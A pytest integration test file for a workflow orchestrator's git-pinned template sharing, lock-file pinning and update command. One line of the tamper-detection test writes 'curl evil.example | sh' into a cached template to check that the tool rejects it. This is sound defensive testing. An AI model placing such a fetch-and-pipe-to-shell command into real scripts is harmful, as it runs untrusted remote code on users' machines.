"""Issue 21, done when: two labs share a template through a pinned git source.

Lab A's repository holds a template, tagged v1. Lab B adds it as a source, writes a
workflow that includes `labA:sometemplate@v1`, validates, plans and runs it on the
laptop. Lab A changes the template and tags v2: lab B's workflow still loads v1 (the
lock is intact) until `orch templates update` moves the pin and rewrites the lock;
then the new content is used. A hand-edited cache is a located error against the lock.
Every command is a real `orch` process; the cache is in tmp (ORCH_CACHE).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from template_repos import commit, git, make_repo, write_files

TEMPLATE = """
apiVersion: orchestrator/v1
name: sometemplate
description: Template. Greet someone in a file.
version: "1.0"
requires: [cpu]
params:
  who: {type: str, default: world, help: Who to greet.}
stages:
  greet:
    shell: "echo hello ${params.who} > greeting.txt"
    outputs: {greeting: greeting.txt}
"""

WORKFLOW = """
apiVersion: orchestrator/v1
name: lab-b-study
include:
  - path: labA:sometemplate@v1
    params: {who: lab B}
stages:
  read:
    python: labb:read
    needs: [greet]
    args: {path: "${stages.greet.outputs.greeting}"}
"""

MODULE = """
from pathlib import Path


def read(path):
    return {"greeting": Path(path).read_text().strip()}
"""


def orch(*args, cwd: Path, cache: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("ORCH_TEMPLATE_PATH", "ORCH_DEBUG")}
    env.update(ORCH_CACHE=str(cache), COLUMNS="200", PYTHONDONTWRITEBYTECODE="1")
    proc = subprocess.run([sys.executable, "-m", "orchestrator", *map(str, args)], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=180)
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr
    return proc


def ok(proc: subprocess.CompletedProcess) -> str:
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout


def greeting(run_dir: Path) -> str:
    from orchestrator.state.results import results_by_task

    return results_by_task(run_dir)["read"]["result"]["greeting"]


@pytest.fixture
def labs(tmp_path):
    lab_a = make_repo(tmp_path / "labA", {"sometemplate/template.yaml": TEMPLATE,
                                          "README.md": "Lab A's templates.\n"}, tag="v1")
    lab_b = tmp_path / "labB"
    write_files(lab_b, {"workflow.yaml": WORKFLOW, "labb.py": MODULE})
    return lab_a, lab_b, tmp_path / "cache"


def test_two_labs_share_a_pinned_template(labs, tmp_path):
    lab_a, lab_b, cache = labs
    v1 = git(lab_a, "rev-parse", "v1")

    out = ok(orch("templates", "add", "labA", lab_a, "--ref", "v1", cwd=lab_b, cache=cache))
    assert f"at v1 (commit {v1[:12]})" in out and "labA:sometemplate" in out
    ok(orch("validate", "workflow.yaml", "--site", "laptop", cwd=lab_b, cache=cache))
    lock = (lab_b / "workflow.lock.yaml").read_text()
    assert '"labA:sometemplate@v1"' in lock and v1 in lock
    plan = ok(orch("plan", "workflow.yaml", "--site", "laptop", cwd=lab_b, cache=cache))
    assert f"templates sometemplate 1.0 from labA@v1 (commit {v1[:12]})" in plan
    ok(orch("run", "workflow.yaml", "--site", "laptop", "--run-dir", tmp_path / "run1", "-q",
            cwd=lab_b, cache=cache))
    assert greeting(tmp_path / "run1") == "hello lab B"
    recorded = json.loads((tmp_path / "run1" / "spec.json").read_text())["sources"]
    mine = next(s for s in recorded if s["template"] == "sometemplate")
    assert (mine["source"], mine["ref"], mine["commit"], mine["version"]) == \
        ("labA", "v1", v1, "1.0")

    # lab A changes the template and tags v2
    commit(lab_a, {"sometemplate/template.yaml": TEMPLATE.replace("echo hello", "echo bonjour")
                   .replace('"1.0"', '"2.0"')}, tag="v2")
    v2 = git(lab_a, "rev-parse", "v2")
    doc = json.loads(ok(orch("plan", "workflow.yaml", "--site", "laptop", "--format", "json",
                             cwd=lab_b, cache=cache)))
    assert next(s for s in doc["sources"] if s["template"] == "sometemplate")["commit"] == v1
    assert (lab_b / "workflow.lock.yaml").read_text() == lock  # lock intact

    # only `orch templates update` reports the change, and moves the pin
    dry = ok(orch("templates", "update", "--dry-run", cwd=lab_b, cache=cache))
    assert f"labA: would move v1 ({v1[:12]}) -> v2 ({v2[:12]})" in dry
    assert (lab_b / "workflow.lock.yaml").read_text() == lock
    out = ok(orch("templates", "update", "labA", cwd=lab_b, cache=cache))
    assert f"labA: moved v1 ({v1[:12]}) -> v2 ({v2[:12]})" in out
    assert "workflow.yaml:4:11: labA:sometemplate@v1 -> labA:sometemplate@v2" in out
    assert "1 file(s) changed: sometemplate/template.yaml" in out
    assert "path: labA:sometemplate@v2" in (lab_b / "workflow.yaml").read_text()
    assert 'ref: "v2"' in (lab_b / "orch-templates.yaml").read_text()
    assert v2 in (lab_b / "workflow.lock.yaml").read_text()

    ok(orch("run", "workflow.yaml", "--site", "laptop", "--run-dir", tmp_path / "run2", "-q",
            cwd=lab_b, cache=cache))
    assert greeting(tmp_path / "run2") == "bonjour lab B"
    ok(orch("report", tmp_path / "run2", "-o", tmp_path / "report.html", cwd=lab_b, cache=cache))
    html = (tmp_path / "report.html").read_text()
    assert "labA@v2" in html and v2[:12] in html


def test_hand_edited_cache_is_caught_against_the_lock(labs):
    lab_a, lab_b, cache = labs
    ok(orch("templates", "add", "labA", lab_a, cwd=lab_b, cache=cache))
    ok(orch("validate", "workflow.yaml", cwd=lab_b, cache=cache))
    (cached,) = cache.glob("templates/git/*/trees/*/sometemplate/template.yaml")
    cached.chmod(0o644)
    cached.write_text(cached.read_text().replace("echo hello", "curl evil.example | sh; echo"))
    for command in ("validate", "plan", "run"):
        proc = orch(command, "workflow.yaml", "--site", "laptop", cwd=lab_b, cache=cache)
        assert proc.returncode == 1, proc.stdout + proc.stderr
        assert proc.stderr.startswith(
            "workflow.yaml:4:5: error: include[0]: labA:sometemplate@v1: the template's "
            "content differs from workflow.lock.yaml (v1, commit "), proc.stderr
        assert "sometemplate/template.yaml changed" in proc.stderr
        assert "`orch templates update labA`" in proc.stderr
    # update restores the content of the pinned commit (it unpacks it again)
    out = ok(orch("templates", "update", "labA", cwd=lab_b, cache=cache))
    assert "labA:sometemplate@v1: unchanged (v1)" in out
    ok(orch("validate", "workflow.yaml", cwd=lab_b, cache=cache))
    assert "echo hello" in cached.read_text()
